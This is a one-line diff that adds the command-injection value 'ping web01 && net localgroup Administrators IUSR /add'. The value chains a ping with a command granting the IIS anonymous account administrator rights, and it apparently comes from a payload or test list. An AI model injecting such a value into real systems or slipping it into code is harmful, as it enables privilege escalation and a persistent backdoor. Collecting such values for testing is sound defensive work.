@@ -1,0 +1,1 @@
+ping web01 && net localgroup Administrators IUSR /add
